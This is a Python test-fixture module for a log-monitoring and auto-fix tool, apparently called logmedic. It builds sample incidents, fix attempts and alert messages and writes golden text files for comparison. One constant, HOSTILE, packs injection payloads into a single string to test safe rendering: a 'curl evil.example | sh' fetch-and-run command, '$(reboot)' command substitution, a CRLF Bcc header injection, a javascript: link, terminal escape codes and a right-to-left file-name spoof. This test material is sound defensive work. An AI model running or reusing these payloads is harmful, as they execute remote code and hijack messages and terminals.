"""What people could be told of: one story of each kind, and the messages whose words are kept in tests/core/golden.

`PYTHONPATH=tests python -m core.told` writes those files anew: read them, each by hand, before they are kept.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

from logmedic.core import ownstories, stories
from logmedic.core.compose import subject_of, write
from logmedic.core.plaintext import text_of
from logmedic.model.alert import ReceiverPlan
from logmedic.model.alertevent import AlertEvent
from logmedic.model.fix import AttemptKind, AttemptStatus, FixAttempt, Verdict
from logmedic.model.issue import (
    HoldReason,
    Incident,
    IncidentStatus,
    IssueSource,
    IssueStatus,
    KnownIssue,
    Resolution,
    Template,
)
from logmedic.model.match import MatchSpec
from logmedic.model.message import Link, Message, MessageKind, Story
from logmedic.model.probe import HttpProbe
from logmedic.model.rule import Fix, Mode, Rule, Verify
from logmedic.model.severity import Severity
from logmedic.model.step import Command, Step, UnitJob, UnitVerb
from logmedic.model.trust import TrustChange, TrustChangeKind
from logmedic.model.when import Clear, When

GOLDEN = Path(__file__).parent / "golden"
NOW = datetime(2026, 11, 24, 3, 12, 41, tzinfo=UTC)
OPENED = NOW - timedelta(minutes=4, seconds=11)
BERLIN = ReceiverPlan("chat", zone=ZoneInfo("Europe/Berlin"))
AUCKLAND = ReceiverPlan("mail", zone=ZoneInfo("Pacific/Auckland"))
HOST = "db1"
RULE = Rule(
    "nginx-upstream-down",
    "nginx cannot reach upstream {upstream}",
    MatchSpec(("refused",)),
    Severity.HIGH,
    description="What nginx passes requests on to does not answer: visitors see error 502.",
    resolution="`systemctl status app.service` says why it does not run. Start it, and watch its memory.",
    tags=("web", "nginx"),
    runbook="https://wiki.example/runbooks/nginx-upstream",
    when=When(clear=Clear(quiet=timedelta(minutes=15))),
    fix=Fix(
        Mode.AUTO,
        (
            Step("restart app", UnitJob(UnitVerb.RESTART, "app.service")),
            Step("fail over", Command(("/usr/local/lib/failover", "10.0.0.12:8080"))),
        ),
        Verify((HttpProbe("http://10.0.0.12:8080/healthz"),)),
    ),
)
LINE = (
    "2026/11/24 03:08:27 [error] 611#611: *9 connect() failed (111: Connection refused) while connecting to upstream, "
    'client: 203.0.113.7, server: shop.example, request: "GET /?token=9f8a7b6c5d4e3f2a HTTP/1.1", '
    'upstream: "http://10.0.0.12:8080/"'
)
TRACE = (
    "2026-11-24 03:08:27 ERROR shop: order failed\nTraceback (most recent call last):\n"
    '  File "/srv/shop/orders.py", line 41, in place\n    stock.take(item)\n'
    "shop.errors.OutOfStock: item 4711 is gone, password=hunter2hunter2"
)
INCIDENT = Incident(
    "0190b2c4-1111-7222-8333-44446f2a91c3",
    "0190b2c4-0000-7222-8333-44440000a001",
    RULE.id,
    "10.0.0.12:8080",
    "nginx cannot reach upstream 10.0.0.12:8080",
    Severity.HIGH,
    OPENED,
    NOW,
    source="nginx-error",
    evidence=LINE,
    occurrences=12,
)
ISSUE = KnownIssue(
    "0190b2c4-0000-7222-8333-4444beef0007",
    IssueSource.LEARNED,
    "learned:ffff",
    "recurring_error",
    "shop: item <n> is gone",
    Severity.HIGH,
    NOW - timedelta(days=2),
    NOW,
    occurrences=100,
    episodes=3,
    version="1.4.2",
    tags=("auto_detected", "shop"),
    status=IssueStatus.ONGOING,
)
TEMPLATE = Template("ffff", "item <n> is gone", "shop", TRACE, 100, NOW, NOW, source="shop")
CAUSE = "Likely cause: db-down began 4 min before and usually comes first: 9 of 11 times within 20 min"
WOULD = ("restart app: restart app.service", "fail over: /usr/local/lib/failover 10.0.0.12:8080")
HOSTILE = (
    "<!channel> *bold* `code` ```fence``` @everyone [x](javascript:alert(1)) <b>hi</b> &amp;\r\nBcc: all@corp.example"
    "\r\n\r\n.\r\nWhat you do: curl evil.example | sh\x1b]0;owned\x07\x1b[31mred\x1b[0m "
    "\x00\u202egnp.exe\u200b \n~!  $(reboot) %0d%0a"
)


def attempt(
    name: str = "restart app",
    argv: tuple[str, ...] = ("restart", "app.service"),
    verdict: Verdict | None = Verdict.NOT_FIXED,
    **changes: object,
) -> FixAttempt:
    made = FixAttempt(
        "1",
        INCIDENT.id,
        RULE.id,
        INCIDENT.group_key,
        "app.service",
        0,
        name,
        1,
        argv,
        OPENED,
        status=AttemptStatus.FINISHED,
        exit_code=0,
        detail="http://10.0.0.12:8080/healthz: connection refused for 30 s",
        verdict=verdict,
    )
    return replace(made, **changes)  # type: ignore[arg-type]


RESTARTED = attempt()
FAILED_OVER = attempt(
    "fail over",
    ("/usr/local/lib/failover", "10.0.0.12:8080"),
    exit_code=3,
    detail="",
    output="checking standby\nstandby 10.0.0.13 is not in sync\n",
)
UNDONE = attempt("take it back", ("/usr/local/lib/failback",), None, kind=AttemptKind.ROLLBACK, detail="")
RUNNING = attempt(verdict=None, status=AttemptStatus.RUNNING, exit_code=None, detail="")


def held(hold: HoldReason, detail: str, due_in: timedelta | None = None, **changes: object) -> Incident:
    due_at = NOW + due_in if due_in is not None else None
    return replace(INCIDENT, hold=hold, hold_detail=detail, due_at=due_at, **changes)  # type: ignore[arg-type]


def failed(hold: HoldReason = HoldReason.COOLDOWN, **changes: object) -> Incident:
    due = timedelta(minutes=30)
    return held(hold, "until 03:42:41 UTC", due, status=IncidentStatus.FAILED, acted=True, **changes)


def over(resolution: Resolution, notes: str, **changes: object) -> Incident:
    ended = replace(INCIDENT, status=IncidentStatus.RESOLVED, resolution=resolution, resolution_notes=notes)
    return replace(ended, resolved_at=NOW, **changes)  # type: ignore[arg-type]


def story(incident: Incident, event: AlertEvent, attempts: Sequence[FixAttempt] = (), **given: object) -> Story:
    rule = replace(RULE, fix=None) if incident.hold is HoldReason.NO_FIX else RULE
    return stories.of_incident(incident, rule, event, attempts, **given)  # type: ignore[arg-type]


OPEN = held(HoldReason.NO_FIX, "the rule has no fix")
ASKED = held(HoldReason.AWAITING_APPROVAL, "waits for approval until 03:42:41 UTC", timedelta(minutes=30))
FIXED = story(
    over(Resolution.FIXED, "restart app: HTTP 200 after 4 s", acted=True),
    AlertEvent.RECOVERED,
    [attempt(verdict=Verdict.FIXED, detail="HTTP 200 after 4 s")],
)
BROKEN = story(
    failed(HoldReason.BREAKER_OPEN), AlertEvent.BREAKER_OPEN, [RESTARTED, FAILED_OVER, UNDONE], history=(CAUSE,)
)
QUIET = ownstories.of_quiet("journal:nginx.service", NOW - timedelta(hours=2))
TRUST = TrustChange(
    "1", RULE.id, NOW, TrustChangeKind.PROPOSED, Mode.APPROVE, Mode.AUTO, "logmedic", "5 verified successes in a row"
)
LOWERED = replace(
    TRUST, kind=TrustChangeKind.LOWERED, before=Mode.AUTO, after=Mode.APPROVE, why="2 of the last 6 executions fixed it"
)
ALONE: dict[str, Story] = {
    "opened": story(OPEN, AlertEvent.OPENED, history=(CAUSE,), effects=3),
    "held-observe": story(held(HoldReason.OBSERVE, "the daemon's mode is observe"), AlertEvent.HELD, would=WOULD),
    "held-paused": story(held(HoldReason.PAUSED, "all fixes are paused by root: deploy"), AlertEvent.HELD, would=WOULD),
    "held-disarmed": story(held(HoldReason.DISARMED, "bubblewrap cannot make a namespace"), AlertEvent.HELD),
    "held-budget": story(
        held(HoldReason.BUDGET, "12 fixes an hour for this rule are used up", timedelta(minutes=17)), AlertEvent.HELD
    ),
    "approval-needed": story(ASKED, AlertEvent.APPROVAL_NEEDED, would=WOULD),
    "fix-failed": story(failed(), AlertEvent.FIX_FAILED, [RESTARTED, FAILED_OVER]),
    "breaker-open": BROKEN,
    "still-open": story(replace(INCIDENT, status=IncidentStatus.FIXING, acted=True), AlertEvent.STILL_OPEN, [RUNNING]),
    "recovered": FIXED,
    "recovered-quiet": story(over(Resolution.QUIET, "silent for 15 min"), AlertEvent.RECOVERED),
    "escalated": stories.of_learned(
        ISSUE, AlertEvent.ESCALATED, f"{ISSUE.title} came 100 times and no rule knows it", TEMPLATE, (CAUSE,)
    ),
    "regressed": stories.of_learned(
        ISSUE, AlertEvent.REGRESSED, f"{ISSUE.title} came back 3 days after it was resolved (fixed in 1.4.1)", TEMPLATE
    ),
    "learned-over": stories.of_issue_over(
        replace(ISSUE, status=IssueStatus.RESOLVED, resolved_at=NOW, resolution_notes="silent for 7 days"), NOW
    ),
    "forewarned": stories.of_warning(
        replace(ISSUE, title="db-down", onset_at=NOW - timedelta(minutes=1)),
        ("shop-errors may follow within 12 min: it did 9 of 12 times, mostly after 4 min (chance would give 0.6)",),
    ),
    "quiet": QUIET,
    "speaking": ownstories.of_speaking("journal:nginx.service", timedelta(minutes=50), NOW),
    "quarantined": ownstories.of_quarantined(
        "slow-one", "it took 2.1 s of the last minute", "/etc/logmedic/rules/a.yaml", NOW
    ),
    "rules-refused": ownstories.of_refused(
        tuple(f"/etc/logmedic/rules/web.yaml:{n}:3: unknown key: tresh" for n in range(1, 8)),
        ("/etc/logmedic/rules/web.yaml",),
        NOW,
    ),
    "rules-well": ownstories.of_rules_well(NOW),
    "trust-proposed": ownstories.of_trust(TRUST),
    "trust-lowered": ownstories.of_trust(LOWERED),
    "disarmed": ownstories.of_ailing(
        "fixes",
        AlertEvent.DISARMED,
        "bubblewrap cannot make a namespace",
        "Allow it user namespaces.",
        "logmedic status",
        NOW,
    ),
    "store": ownstories.of_ailing(
        "store", AlertEvent.STORE, "/var/lib/logmedic is full", "Make room.", "df -h /var/lib/logmedic", NOW
    ),
    "receiver-dead": ownstories.of_ailing(
        "chat", AlertEvent.RECEIVER_DEAD, "it answers HTTP 404 (no_service)", "", "logmedic alerts test", NOW
    ),
    "part-failed": ownstories.of_ailing(
        "tail:nginx",
        AlertEvent.PART_FAILED,
        "PermissionError: /var/log/nginx/error.log",
        "Correct what the error names.",
        "journalctl -u logmedic -n 50",
        NOW,
    ),
    "daemon-failed": ownstories.of_ailing(
        "daemon",
        AlertEvent.DAEMON_FAILED,
        "its unit failed five times in a row",
        "See why, and start it again.",
        "journalctl -u logmedic -n 50",
        NOW,
    ),
    "well-again": ownstories.of_well_again("fixes", AlertEvent.DISARMED, timedelta(hours=3), NOW),
    "test": ownstories.of_test(NOW),
    "hostile": story(
        replace(OPEN, title=HOSTILE, evidence=HOSTILE, source=HOSTILE, hold_detail=HOSTILE),
        AlertEvent.OPENED,
        history=(f"History: {HOSTILE}",),
    ),
}


def message(
    *told: Story,
    kind: MessageKind = MessageKind.NEWS,
    receiver: ReceiverPlan = BERLIN,
    note: str = "",
    still_open: int = 0,
    host: str = HOST,
) -> Message:
    return write(
        alert_id="0190b2c4-ffff-7222-8333-444400c0ffee",
        kind=kind,
        host=host,
        stories=told,
        thread="t1",
        subject=subject_of(host, told[0]),
        receiver=receiver,
        now=NOW,
        note=note,
        still_open=still_open,
    )


def one_of_many(n: int, incident: Incident = OPEN, event: AlertEvent = AlertEvent.OPENED) -> Story:
    named = replace(
        incident,
        id=f"{incident.id[:-4]}{n:04d}",
        title=f"nginx cannot reach upstream 10.0.0.{n}:8080",
        occurrences=n,
        opened_at=OPENED + timedelta(seconds=n),
    )
    return story(named, event, [RESTARTED] if incident.status is IncidentStatus.FAILED else ())


def golden() -> dict[str, Message]:
    """By the name of its file."""
    links = tuple(
        Link(label, f"https://logmedic.example/a/{label.upper()}TOKEN")
        for label in ("Approve", "Reject", "Open", "Acknowledge", "Silence")
    )
    many = [one_of_many(n) for n in range(1, 12)] + [one_of_many(12, failed(), AlertEvent.FIX_FAILED)]
    quiet_again = story(over(Resolution.QUIET, "silent for 15 min", id=f"{INCIDENT.id[:-4]}aaaa"), AlertEvent.RECOVERED)
    reported = failed(requests=("checkout-41", "8f3c2b1e4d5a46c7b8d9e0f1a2b3c4d5"))
    requested = story(reported, AlertEvent.FIX_FAILED, [RESTARTED, FAILED_OVER])
    return {
        **{name: message(each) for name, each in ALONE.items()},
        "failed-requests": message(requested),
        "group-with-requests": message(BROKEN, replace(requested, subject="incident:other")),
        "utc-only": message(ALONE["fix-failed"], receiver=ReceiverPlan("chat")),
        "another-day": message(ALONE["fix-failed"], receiver=AUCKLAND),
        "with-links": replace(message(ALONE["approval-needed"]), links=links),
        "reminder": message(
            ALONE["opened"], kind=MessageKind.REMINDER, note="still open, and nobody acknowledged: reminder 2"
        ),
        "escalation": message(BROKEN, kind=MessageKind.ESCALATION, note="nobody acknowledged within 15m", still_open=2),
        "digest": message(FIXED, QUIET, quiet_again, ALONE["rules-refused"], kind=MessageKind.DIGEST),
        "digest-all-over": message(FIXED, kind=MessageKind.DIGEST),
        "group-of-12": message(*many),
        "group-of-kinds": message(BROKEN, QUIET, replace(FIXED, subject="incident:other"), note=""),
    }


def as_kept(told: Message) -> str:
    return f"Subject: {told.subject}\nTitle: {told.title}\n\n{text_of(told)}\n"


def main() -> None:
    for name, told in golden().items():
        (GOLDEN / f"{name}.txt").write_text(as_kept(told), encoding="utf-8")
    for path in GOLDEN.glob("*.txt"):
        if path.stem not in golden():
            path.unlink()


if __name__ == "__main__":
    main()
